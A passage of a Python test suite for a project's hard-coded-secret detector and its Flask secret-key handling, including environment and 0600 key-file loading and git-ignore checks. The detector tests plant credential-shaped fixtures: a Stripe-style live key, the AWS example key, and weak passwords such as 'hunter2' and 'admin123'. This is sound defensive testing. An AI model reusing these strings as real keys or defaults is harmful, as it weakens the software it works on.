                    and isinstance(value.value, str) and value.value.strip():
                found.append(f"{where}:{value.lineno}: {name} = {value.value[:3]!r}…")
    return found


def test_secret_detector_catches_planted_secrets() -> None:
    """The detector is not vacuous: planted secrets are found, the code's kind of literals
    (identifiers, config keys, SQL, Chinese text) are not."""
    planted = {
        f"KEY = {secrets.token_hex(32)!r}": 1,
        f"x = {'sk_live_' + '4eC39HqLyjWDarjtT1zdp7dc'!r}": 1,
        "AWS = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'": 1,
        "secret_key = 'correct horse battery staple'": 1,
        "app.config['SECRET_KEY'] = 'dev'": 1,
        "create_app(db, secret_key='hunter2')": 1,
        "def f(password='letmein'): pass": 1,
        "if password == 'admin123': pass": 1,
        "USERS = {'admin': {'password': 'admin'}}": 1,
        "x = 'wrong_option_district_share'": 0,
        "x = 'spark.sql.execution.arrow.pyspark.fallback.enabled'": 0,
        "x = 'display.unicode.east_asian_width'": 0,
        "x = 'SELECT count(*) FROM users WHERE password_hash IS NOT NULL'": 0,
        "x = '请输入密码 / enter the password'": 0,
        "password = None": 0,
        "CSRF_TOKEN_FIELD = 'csrf_token'": 1,   # a secret-like name is enough: strict
    }
    for src, n in planted.items():
        assert len(secret_findings(src, "t")) == n, src


def test_no_secret_literals_in_the_code() -> None:
    found = []
    for package in ("analytics", "dashboards", "eqm"):
        paths = sorted((ROOT / package).rglob("*.py"))
        assert paths, package
        for path in paths:
            found += secret_findings(path.read_text(encoding="utf-8"),
                                     str(path.relative_to(ROOT)))
    assert not found, found


def test_flask_secret_from_environment(db: Path, tmp_path: Path,
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    from dashboards.app import create_app

    key = "env-" + secrets.token_urlsafe(24)
    monkeypatch.setenv("EQM_SECRET_KEY", key)
    monkeypatch.setenv("EQM_SECRET_FILE", str(tmp_path / "never.key"))
    app = create_app(db)
    try:
        assert app.server.secret_key == key
        assert not (tmp_path / "never.key").exists()
    finally:
        app.server.config["EQM_SERVICE"].close()


def test_flask_secret_from_private_key_file(db: Path, tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the environment variable the app generates the key file (0600) and reuses it;
    a key file too short to be a key is replaced, and the replacement is private too even
    when the old file was world-readable."""
    from dashboards.app import create_app
    from dashboards.auth import load_secret_key

    monkeypatch.delenv("EQM_SECRET_KEY", raising=False)
    keyfile = tmp_path / "keys" / ".eqm_secret_key"
    monkeypatch.setenv("EQM_SECRET_FILE", str(keyfile))
    old = os.umask(0o000)  # the mode must not depend on a friendly umask
    try:
        app = create_app(db)
    finally:
        os.umask(old)
    try:
        key = app.server.secret_key
        assert isinstance(key, str) and len(key) >= 64
        assert keyfile.read_text(encoding="utf-8").strip() == key
        assert stat.S_IMODE(keyfile.stat().st_mode) == 0o600
    finally:
        app.server.config["EQM_SERVICE"].close()
    assert load_secret_key(None, secret_file=keyfile) == key
    weak = tmp_path / "weak.key"
    weak.write_text("short\n", encoding="utf-8")
    weak.chmod(0o644)
    new = load_secret_key(None, secret_file=weak)
    assert len(new) >= 64 and weak.read_text(encoding="utf-8").strip() == new
    assert stat.S_IMODE(weak.stat().st_mode) == 0o600
    weak.chmod(0o644)  # a valid key left readable by others is kept, and tightened
    assert load_secret_key(None, secret_file=weak) == new
    assert stat.S_IMODE(weak.stat().st_mode) == 0o600


def test_default_key_file_is_git_ignored(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from dashboards.auth import secret_file_for

    monkeypatch.delenv("EQM_SECRET_FILE", raising=False)
    default = secret_file_for(ROOT / "data" / "warehouse.duckdb")
    assert default.name == ".eqm_secret_key"
    rel = default.relative_to(ROOT)
    result = subprocess.run(["git", "check-ignore", "-q", str(rel)], cwd=ROOT, check=False)
    assert result.returncode == 0, f"{rel} is not git-ignored"
